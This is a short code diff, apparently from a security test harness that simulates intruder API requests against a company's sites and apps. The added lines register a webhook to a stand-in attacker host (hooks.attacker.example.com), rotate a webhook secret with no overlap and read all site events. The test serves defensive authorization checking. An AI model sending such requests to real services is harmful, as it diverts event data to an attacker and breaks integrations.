@@ -15,7 +15,8 @@ export async function intruders(attacker: Attacker): Promise<void> {
 
 function intrusion({ world, chance }: Attacker): Wire {
   const { sites, apps } = world.company;
-  const { siteId } = chance.one(sites);
+  const { siteId, webhooks } = chance.one(sites);
+  const webhook = webhooks[0]?.id ?? "wh_none";
   const { appid, secrets } = chance.one(apps);
   const [method, path, body] = chance.one([
     ["GET", "/sites"],
@@ -25,6 +26,9 @@ function intrusion({ world, chance }: Attacker): Wire {
     ["DELETE", `/apps/${appid}`],
     ["PATCH", `/sites/${siteId}`, { status: "closed" }],
     ["POST", "/homes/main/restored"],
+    ["POST", `/sites/${siteId}/webhooks`, { url: "https://hooks.attacker.example.com/" }],
+    ["POST", `/sites/${siteId}/webhooks/${webhook}/rotate`, { overlap_seconds: 0 }],
+    ["GET", `/sites/${siteId}/events?after=0`],
   ] as const);
   const authorization = chance.one([
     undefined,
